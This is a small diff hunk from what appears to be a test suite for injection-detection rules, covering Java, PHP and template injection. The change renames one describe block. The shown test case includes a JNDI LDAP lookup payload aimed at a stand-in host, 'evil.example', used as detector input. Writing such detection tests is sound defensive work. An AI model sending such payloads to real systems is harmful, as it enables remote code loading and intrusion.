@@ -100,7 +100,7 @@ describe('Mail-protocol command injection after a line break (RCE-200)', () => {
   });
 });
 
-describe('Java, PHP and template injection, round 6 (JAVA-100, JAVA-110, PHP-110, PHP-170, PHP-180, SSTI-100, SSTI-120)', () => {
+describe('Java, PHP and template injection (JAVA-100, JAVA-110, PHP-110, PHP-170, PHP-180, SSTI-100, SSTI-120)', () => {
   it.each([
     ['a JNDI LDAP URL without the lookup braces', json({ q: '$&lbracejndi:ldap://evil.example/a}' }), 'JAVA-100'],
     [
